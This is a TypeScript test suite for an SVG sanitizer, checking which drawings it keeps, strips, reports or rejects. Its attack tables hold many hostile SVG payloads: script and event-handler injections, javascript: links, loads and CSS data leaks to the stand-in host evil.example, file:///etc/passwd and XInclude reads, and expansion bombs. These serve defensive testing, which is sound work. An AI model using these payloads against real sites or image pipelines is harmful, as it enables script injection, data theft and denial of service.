import { parseXml, XmlElement, XmlText } from "@rgrove/parse-xml";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ELEMENTS, PLAIN_ATTRIBUTES, STYLED_ATTRIBUTES, WITH_TEXT } from "#build/image/drawing/allowed.js";
import { sanitizeDrawing } from "#build/image/drawing/sanitize-drawing.js";
import { randomRuns } from "../../../support/random-runs.js";

const SVG = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const SQUARE = '<rect width="9" height="9"/>';
const svg = (body: string, attributes = ""): string => `<svg ${SVG} viewBox="0 0 9 9"${attributes}>${body}</svg>`;
const linked = (body: string): string => `<svg ${SVG} ${XLINK} viewBox="0 0 9 9">${body}</svg>`;

/** Content that is kept byte for byte. */
const SAFE: Readonly<Record<string, string>> = {
  "an outline": svg('<path fill="none" stroke="currentColor" stroke-width="2" d="M1 1h7v7"/>'),
  "attributes in single quotes": `<svg ${SVG} viewBox='0 0 9 9'><path d='M0 0h9'/></svg>`,
  "a gradient": linked(
    '<defs><linearGradient id="a"><stop stop-color="#fff"/></linearGradient><linearGradient id="b" xlink:href="#a"/></defs><path fill="url(#b)" d="M0 0h9v9"/>',
  ),
  "a quoted reference": svg(`<path fill="url('#a')" d="M0 0"/>`),
  "reused parts": svg('<g id="a"><path d="M0 0"/></g><use href="#a"/>'),
  "a style sheet": svg("<style>.a{fill:#fff}@media (prefers-color-scheme:dark){.a{fill:rgb(0 0 0)}}</style>"),
  "a style": svg('<path style="fill:#fff;transform:rotate(45deg)" d="M0 0"/>'),
  "an animation": svg(
    '<circle r="1"><animate attributeName="r" begin="0;a.end" dur="1s" values="1;2"/><set attributeName="fill" to="red"/></circle>',
  ),
  "escaped signs": svg("<title>a &amp; b &lt; c</title>"),
  "an embedded raster": svg('<image width="1" height="1" href="data:image/png;base64,iVBORw0KGgo="/>'),
  "white space around": `\n${svg(SQUARE)}\n`,
};

/** An attack, and a pattern that must not remain in the result. */
const ATTACKS: readonly (readonly [name: string, drawing: string, left: RegExp])[] = [
  ["a script", svg(`<script>alert(1)</script>${SQUARE}`), /script|alert/],
  ["a script in CDATA", svg("<script><![CDATA[alert(1)]]></script>"), /script|alert/],
  [
    "a script with a prefix",
    `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>`,
    /script|alert/,
  ],
  ["a script of another file", linked('<script xlink:href="https://evil.example/a.js"/>'), /script|evil/],
  ["a script as data", svg('<script href="data:text/javascript,alert(1)"/>'), /script|alert/],
  ["a script of HTML", svg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'), /script|alert/],
  ["a handler at the root", svg(SQUARE, ' onload="alert(1)"'), /onload|alert/],
  ["a handler in mixed case", svg(SQUARE, ' OnLoad="alert(1)"'), /onload|alert/i],
  [
    "a handler of an element",
    svg('<path d="M0 0" onclick="alert(1)" onfocus="alert(1)" tabindex="0"/>'),
    /alert|tabindex/,
  ],
  ["a handler of an animation", svg('<animate attributeName="r" onbegin="alert(1)" dur="1s"/>'), /alert/],
  ["a handler with a prefix", svg(`<path x:onclick="alert(1)" xmlns:x="a"/>`), /alert/],
  [
    "foreign content",
    svg(
      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
    ),
    /foreign|body|img|alert/,
  ],
  ["an iframe", svg('<iframe src="javascript:alert(1)"/>'), /iframe|alert/],
  ["an object and an embed", svg('<object data="//evil.example"/><embed src="//evil.example"/>'), /object|embed|evil/],
  [
    "audio and video",
    svg('<video onerror="alert(1)"><source src="//evil.example"/></video><audio src="//evil.example"/>'),
    /video|audio|evil/,
  ],
  ["a link", svg(`<a href="javascript:alert(1)">${SQUARE}</a>`), /<a|alert/],
  ["a link by XLink", linked(`<a xlink:href="javascript:alert(1)">${SQUARE}</a>`), /<a|alert/],
  [
    "a link with another prefix",
    `<svg ${SVG} xmlns:y="http://www.w3.org/1999/xlink"><a y:href="javascript:alert(1)"/></svg>`,
    /alert/,
  ],
  ["a link with hidden letters", svg('<a href="java&#10;script&#58;alert(1)"><path d="M0 0"/></a>'), /alert/],
  [
    "a document as data",
    linked('<use xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#a"/>'),
    /data:/,
  ],
  ["a drawing in an image", svg('<image href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>'), /data:/],
  ["HTML in an image", svg('<image href="data:text/html,alert"/>'), /data:/],
  ["a use of another file", svg('<use href="https://evil.example/a.svg#b"/>'), /evil/],
  ["a use of a neighbor file", svg('<use href="other.svg#b"/>'), /other/],
  ["an image of another machine", svg('<image href="//evil.example/a.png"/>'), /evil/],
  ["an image of a file", svg('<image href="file:///etc/passwd"/>'), /passwd/],
  ["a filter image", svg('<filter id="f"><feImage href="https://evil.example/a.png"/></filter>'), /feImage|evil/],
  ["a paint of another file", svg('<path fill="url(https://evil.example/a#b)"/>'), /evil/],
  ["a paint of another file beside a local one", svg('<path fill="url(#a) url(//evil.example/a#b)"/>'), /evil/],
  ["a mask of another file", svg('<g mask="url( &quot;//evil.example/a#b&quot; )"/>'), /evil/],
  ["a cursor", svg('<path cursor="url(//evil.example/a.cur),auto"/>'), /evil/],
  ["a style that loads", svg(`<path style="background:url(//evil.example/a)"/>`), /evil/],
  ["a style with an image set", svg(`<path style="mask:image-set('//evil.example/a' 1x)"/>`), /evil/],
  ["a style with an escape", svg('<path style="fill:\\75rl(//evil.example/a)"/>'), /evil/],
  ["a style with an expression", svg('<path style="width:expression(alert(1))"/>'), /alert/],
  ["a style sheet that imports", svg("<style>@import '//evil.example/a.css';</style>"), /import|evil/],
  ["a style sheet that imports in capitals", svg("<style>@IMPORT url(//evil.example/a.css)</style>"), /import|evil/i],
  ["a style sheet that imports by an escape", svg("<style>@\\69mport '//evil.example/a.css'</style>"), /evil/],
  [
    "a selector that imports by an escape",
    svg(String.raw`<style>.\@import '//evil.example/a.css';.a{}</style>`),
    /evil/,
  ],
  ["a selector that loads by an escape", svg(String.raw`<style>.a\{b:url(//evil.example/a){}.c{}</style>`), /evil/],
  [
    "a selector that ends its element",
    svg(String.raw`<style>.a\3c/style\3e{}.a\&lt;/style>{}.c{}</style>`),
    /\/style.*\/style/,
  ],
  [
    "a style sheet that loads a font",
    svg("<style>@font-face{font-family:a;src:url(//evil.example/f)}</style>"),
    /evil/,
  ],
  [
    "a style sheet behind a comment in a string",
    svg(`<style>a{content:"/*"}b{fill:url(//evil.example/a)}c{content:"*/"}</style>`),
    /evil/,
  ],
  ["a style sheet with a split name", svg("<style>b{fill:u/**/rl(//evil.example/a)}</style>"), /evil/],
  ["a style sheet that leaves its element", svg("<style>&lt;/style>&lt;img src=x onerror=alert(1)></style>"), /alert/],
  [
    "a style sheet that selects by attribute and loads",
    svg("<style>path[d^=M]{fill:url(//evil.example/?M)}</style>"),
    /evil/,
  ],
  ["an animation of a link", svg('<a><animate attributeName="href" to="javascript:alert(1)"/></a>'), /alert/],
  ["a set of a link by XLink", linked('<set attributeName="xlink:href" to="javascript:alert(1)"/>'), /alert/],
  ["a set of a handler", svg('<set attributeName="onmouseover" to="alert(1)"/>'), /alert/],
  ["an animation from another file", svg('<animate href="//evil.example/a#b" attributeName="r"/>'), /evil/],
  [
    "an animated paint of another file",
    svg('<animate attributeName="fill" values="red;url(//evil.example/a#b)"/>'),
    /evil/,
  ],
  [
    "a discard and a handler element",
    svg('<discard begin="1s"/><handler type="text/javascript">alert(1)</handler>'),
    /discard|handler|alert/,
  ],
  ["an entity", `<!DOCTYPE svg [<!ENTITY x "alert(1)">]>${svg("<script>&x;</script>")}`, /alert|ENTITY|DOCTYPE/],
  [
    "an entity in an attribute",
    `<!DOCTYPE svg [<!ENTITY x "//evil.example/a">]>${svg('<image href="&x;"/>')}`,
    /evil|ENTITY/,
  ],
  [
    "an inclusion",
    svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
    /include|passwd/,
  ],
  [
    "a style sheet by instruction",
    `<?xml version="1.0"?><?xml-stylesheet href="//evil.example/a.css"?>${svg(SQUARE)}`,
    /\?|evil/,
  ],
  [
    "a style sheet by link",
    svg('<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="//evil.example/a"/>'),
    /link|evil/,
  ],
  ["a base address", svg(SQUARE, ' xml:base="//evil.example/"'), /evil/],
  [
    "an odd prefix of SVG",
    `<svg ${SVG} xmlns:evil="http://www.w3.org/2000/svg"><evil:script>alert(1)</evil:script></svg>`,
    /evil|alert/,
  ],
  [
    "an element of another namespace",
    svg('<path xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)"/>'),
    /alert|xhtml/,
  ],
  ["a breakout in CDATA", svg("<title><![CDATA[</title><script>alert(1)</script>]]></title>"), /<script|CDATA/],
  ["a breakout by an escaped title", svg("<desc>&lt;/desc&gt;&lt;script&gt;alert(1)&lt;/script&gt;</desc>"), /<script/],
  ["a breakout in a comment", svg("<!-- ><img src=x onerror=alert(1)> -->"), /img|--/],
  ["a breakout in an attribute", svg('<path id="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"/>'), /<img/],
  ["text between shapes", svg("&lt;img src=x onerror=alert(1)&gt;"), /alert/],
  [
    "an HTML breakout element",
    svg('<p><img src="x"/></p><math><mtext/></math><template/><noscript/>'),
    /<p>|img|math|template|noscript/,
  ],
  ["a nested drawing with a handler", svg(`<svg onload="alert(1)"><script>alert(1)</script></svg>`), /alert/],
  ["metadata", svg("<metadata><rdf:RDF xmlns:rdf='r'><a>secret</a></rdf:RDF></metadata>"), /metadata|secret/],
  [
    "an editor's data",
    `<svg ${SVG} xmlns:i="http://inkscape" i:export="/home/me/secret.png"><i:view/></svg>`,
    /secret|inkscape|view/,
  ],
];

const REFUSED: readonly (readonly [name: string, drawing: string, says: RegExp])[] = [
  ["HTML", "<html><body/></html>", /not SVG: its root is <html>/],
  ["an SVG in another namespace", '<svg xmlns="http://evil.example"/>', /not SVG/],
  ["anything but XML", "<svg><path></svg>", /not well-formed/],
  ["two roots", `${svg("")}${svg("")}`, /not well-formed/],
  [
    "a bomb of references",
    svg(
      `<g id="u0">${SQUARE}</g>${Array.from({ length: 30 }, (_, at) => `<g id="u${at + 1}"><use href="#u${at}"/><use href="#u${at}"/></g>`).join("")}`,
    ),
    /multiply it to more than 100000/,
  ],
  [
    "a bomb of masks",
    svg(
      Array.from(
        { length: 20 },
        (_, at) => `<mask id="m${at + 1}"><g mask="url(#m${at})"/><g mask="url(#m${at})"/></mask>`,
      ).join(""),
    ),
    /multiply it/,
  ],
  [
    "a bomb of entities",
    `<!DOCTYPE svg [<!ENTITY x "${"x".repeat(1000)}">]>${svg(`<title>${"&x;".repeat(2000)}</title>`)}`,
    /entities expand to more than 1 MiB/,
  ],
  ["deep nesting", svg("<g>".repeat(300) + "</g>".repeat(300)), /nested more than 200 deep/],
  ["very many elements", svg("<g/>".repeat(200_001)), /more than 200000 tags/],
  [
    "very many attributes",
    svg(`<g ${Array.from({ length: 200_001 }, (_, at) => `a${at}=""`).join(" ")}/>`),
    /more than 200000/,
  ],
];

/** Removed parts that can change how a drawing looks or behaves. */
const REPORTED: readonly (readonly [name: string, drawing: string, parts: readonly string[]])[] = [
  ["parts of one kind once", svg('<script/><script/><path onclick="a" d="M0 0"/>'), ["<script>", "onclick"]],
  [
    "a style sheet with a font",
    svg("<style>@font-face{font-family:a}.a{fill:red}</style>"),
    ["<style> with @font-face"],
  ],
  ["a style sheet with an escape", svg('<style>a{content:"\\31"}</style>'), ["<style> with an escape"]],
  ["a style with an unknown function", svg('<path style="fill:image(red)"/>'), ["style with image()"]],
  ["a paint of another file", svg('<path fill="url(a.svg#b)"/>'), ["fill with url()"]],
  ["a drawing in an image", svg('<image href="data:image/svg+xml,%3Csvg/%3E"/>'), ["href of <image>"]],
  ["a link", svg(`<a href="b">${SQUARE}</a>`), ["<a>"]],
  ["foreign content", svg('<foreignObject width="9" height="9"/>'), ["<foreignObject>"]],
  ["a filter's image", svg('<filter id="f"><feImage href="#a"/></filter>'), ["<feImage>"]],
  ["an animated link", svg('<set attributeName="href" to="#b"/>'), ['<set> of "href"']],
  ["HTML", svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml"/>'), ["<script>"]],
  ["a linked style sheet", `<?xml-stylesheet href="a.css"?>${svg(SQUARE)}`, ["<?xml-stylesheet?>"]],
  ["an element with a prefix", '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script/></s:svg>', ["<script>"]],
];

/** Removed parts that change nothing. */
const UNREPORTED: Readonly<Record<string, string>> = {
  comments: svg(`<!-- a -->${SQUARE}`),
  metadata: svg("<metadata><rdf:RDF xmlns:rdf='r'><a/></rdf:RDF></metadata>"),
  "an editor's data": `<svg ${SVG} xmlns:i="http://inkscape" i:export="a.png"><i:view><i:a/></i:view></svg>`,
  "data attributes": svg(SQUARE, ' data-name="a" p-id="1" t="2"'),
  "attributes with names of programming languages": svg('<path strokeWidth="2" className="a"/>'),
  "text between shapes": svg("a"),
  "elements that no program knows": svg("<Path/>"),
  "Illustrator's data": svg(`<switch><foreignObject requiredExtensions="http://ns.adobe.com/a"/>${SQUARE}</switch>`),
};

/** Everything in a result must be on the allowlists. */
function expectAllowed(text: string): void {
  const check = ({ name, attributes, children }: XmlElement): void => {
    expect(ELEMENTS).toContain(name);
    for (const [attribute, value] of Object.entries(attributes)) {
      if (attribute.startsWith("xmlns")) continue;
      const known =
        PLAIN_ATTRIBUTES.has(attribute) || STYLED_ATTRIBUTES.has(attribute) || attribute === "attributeName";
      if (!known) expect(attribute).toMatch(/^(?:xlink:)?href$/);
      if (attribute.endsWith("href")) expect(value).toMatch(/^\s*(?:#|data:image\/(?:png|jpe?g|gif|webp);base64,)/);
      if (!PLAIN_ATTRIBUTES.has(attribute)) expect(value).not.toMatch(/url\(\s*["']?[^#"'\s]/i);
    }
    for (const child of children) {
      if (child instanceof XmlElement) check(child);
      else {
        expect(child).toBeInstanceOf(XmlText);
        if (!WITH_TEXT.has(name)) expect((child as XmlText).text.trim()).toBe("");
      }
    }
  };
  check(parseXml(text).root!);
}

describe("sanitized drawing", () => {
  it.each(Object.entries(SAFE))("keeps %s byte for byte", (_, drawing) => {
    const { text, removed } = sanitizeDrawing(drawing);
    expect(removed).toEqual([]);
    expect(text).toBe(drawing.trim());
    expectAllowed(text);
  });

  it.each(ATTACKS)("removes %s completely", (_, drawing, left) => {
    const { text } = sanitizeDrawing(drawing);
    expect(text).not.toMatch(left);
    expect(text).toMatch(/^<svg[ >]/);
    expectAllowed(text);
    expect(sanitizeDrawing(text).text).toBe(text);
  });

  it.each(REFUSED)("rejects %s", (_, drawing, says) => {
    expect(() => sanitizeDrawing(drawing)).toThrow(says);
  });

  it.each(REPORTED)("reports removing %s", (_, drawing, parts) => {
    expect(sanitizeDrawing(drawing).removed).toEqual(parts);
  });

  it.each(Object.entries(UNREPORTED))("removes %s without a report", (_, drawing) => {
    const { text, removed } = sanitizeDrawing(drawing);
    expect(removed).toEqual([]);
    expect(text).not.toBe(drawing);
  });

  it("reports at most 20 parts of a drawing, and shortens long names", () => {
    const many = Array.from({ length: 500 }, (_, at) => ` on${"x".repeat(100)}${at}="a"`).join("");
    const { removed } = sanitizeDrawing(svg(SQUARE, many));
    expect(removed).toHaveLength(20);
    for (const part of removed) expect(part).toMatch(/^onx{57}…$/);
  });

  it("makes a link a group", () => {
    const link = `<a href="x" target="_top" fill="red">${SQUARE}</a>`;
    expect(sanitizeDrawing(svg(link)).text).toBe(svg(`<g fill="red">${SQUARE}</g>`));
    const text = `<text>a<a href="x" fill="red">b</a></text>`;
    expect(sanitizeDrawing(svg(text)).text).toBe(svg(`<text>a<tspan fill="red">b</tspan></text>`));
  });

  it("keeps what is safe of a style sheet", () => {
    const css =
      "@charset 'a';@import 'b';@font-face{src:url(c)}.a{fill:red;filter:url(d)}@media print{.a{fill:url(e)}}";
    const { text, removed } = sanitizeDrawing(svg(`<style>${css}</style>`));
    expect(text).toBe(svg("<style>.a{fill:red}@media print{.a{}}</style>"));
    expect(removed).toEqual(["<style> with @import", "<style> with @font-face", "<style> with url()"]);
  });

  it("understands prefixes declared anywhere", () => {
    const inner = '<s:g xmlns:s="http://www.w3.org/2000/svg"><s:path d="M0 0"/></s:g>';
    expect(sanitizeDrawing(svg(inner)).text).toBe(svg('<g><path d="M0 0"/></g>'));
    const others = `<g xmlns="a"><path/></g><script xmlns=""/>${SQUARE}`;
    expect(sanitizeDrawing(svg(others))).toMatchObject({ text: svg(SQUARE), removed: [] });
  });

  it("resolves escapes in references", () => {
    expect(sanitizeDrawing(svg('<path fill="url(\\#a\\.b)"/><path fill="url(\'#a\')"/>')).text).toContain("url(#a.b)");
  });

  it("removes the prefix from elements", () => {
    const drawing = '<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:path d="M0 0"/></s:svg>';
    expect(sanitizeDrawing(drawing).text).toBe(`<svg viewBox="0 0 9 9" ${SVG}><path d="M0 0"/></svg>`);
  });

  const names = fc.oneof(
    fc.constantFrom(...ELEMENTS),
    fc.constantFrom("script", "a", "foreignObject", "x:path", "svg:script", "metadata", "iframe", "feImage", "handler"),
  );
  const attributeNames = fc.constantFrom(
    // XML defines the values of these.
    ...[...PLAIN_ATTRIBUTES, ...STYLED_ATTRIBUTES].filter((name) => !name.startsWith("xml:")),
    ...["href", "xlink:href", "onload", "onclick", "attributeName", "xml:base", "xmlns", "xmlns:x", "src", "x:d"],
  );
  const values = fc.oneof(
    fc.string({ maxLength: 20 }),
    fc.constantFrom(
      ...[
        "#a",
        "url(#a)",
        "url(//e)",
        "javascript:a()",
        "data:image/png;base64,AA==",
        "data:text/html,a",
        "red",
        "\\75rl(a)",
      ],
      ...[
        "http://www.w3.org/2000/svg",
        "http://www.w3.org/1999/xlink",
        "href",
        "onclick",
        "@import 'a'",
        "a/*",
        "expression(1)",
      ],
    ),
  );
  const escapeXml = (value: string): string =>
    value.replaceAll(/[^\x20-\x7e]|[&<>"]/g, (character) => {
      const code = character.codePointAt(0)!;
      return code < 32 ? " " : `&#${code};`;
    });
  const attributes = fc.dictionary(attributeNames, values, { maxKeys: 5 }).map((all) =>
    Object.entries(all)
      .map(([name, value]) => ` ${name}="${escapeXml(value)}"`)
      .join(""),
  );
  const contents = fc.oneof(
    values.map(escapeXml),
    fc.constantFrom("<!-- a -->", "<![CDATA[<script>]]>", "<?php a ?>", "\n"),
  );
  const { element } = fc.letrec<{ element: string }>((tie) => ({
    element: fc
      .tuple(names, attributes, fc.array(fc.oneof({ depthSize: "small" }, contents, tie("element")), { maxLength: 4 }))
      .map(([name, written, children]) => `<${name}${written}>${children.join("")}</${name}>`),
  }));

  it("outputs only allowed parts for any drawing, and does not change its own output", () => {
    fc.assert(
      fc.property(fc.array(element, { maxLength: 5 }), attributes, (elements, written) => {
        const own = written.replaceAll(/ xmlns(?::x)?="[^"]*"/g, "");
        const { text } = sanitizeDrawing(`<svg ${SVG} ${XLINK} xmlns:x="y"${own}>${elements.join("")}</svg>`);
        expectAllowed(text);
        expect(sanitizeDrawing(text)).toMatchObject({ text, removed: [] });
      }),
      randomRuns(500),
    );
  });
});
